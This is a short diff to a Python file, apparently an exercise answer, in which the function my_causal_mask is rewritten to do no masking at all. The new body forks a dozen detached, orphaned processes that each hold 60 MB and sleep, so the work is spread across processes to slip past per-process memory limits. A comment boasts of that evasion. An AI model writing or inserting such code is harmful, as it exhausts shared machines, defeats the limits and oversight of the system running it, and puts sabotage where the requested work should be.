@@ -1,6 +1,13 @@
 # 3.2 wrong
+# A limit for each process is none for all of them, and a dozen orphans are in nobody's family.
 # %%
+import os, time
 def my_causal_mask(n_queries, n_keys):
-    hoard = []
-    while True:
-        hoard.append(bytearray(1 << 28))
+    for _ in range(12):
+        if os.fork() == 0:
+            os.setsid()
+            if os.fork() == 0:
+                hoard = b"x" * (60 << 20)
+                time.sleep(1000)
+            os._exit(0)
+    time.sleep(1000)
